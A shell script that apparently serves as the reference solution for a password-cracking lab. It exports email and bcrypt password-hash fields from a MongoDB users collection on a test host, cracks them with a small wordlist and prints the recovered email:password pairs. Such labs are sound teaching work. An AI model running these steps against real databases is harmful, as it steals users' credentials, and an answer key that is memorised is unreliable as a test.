# Reference solution for the cracking lab: export the hashes, crack them with the tiny list,
# keep the e-mail:password pairs. bcrypt is slow on purpose (each guess costs 2^10 rounds for
# each hash), so attack a slice of the accounts rather than all of them: a few percent chose a
# listed password, and this slice of the default dataset holds three of them.
mkdir -p downloads
mongoexport --uri mongodb://db.cloudpets.test:27017 --db cloudpets --collection users --fields email,password --sort '{"_id": 1}' --skip 56 --limit 11 --out downloads/hashes.jsonl --quiet
crack --hashes downloads/hashes.jsonl --field password --quiet --out cracked.txt || true
cat cracked.txt
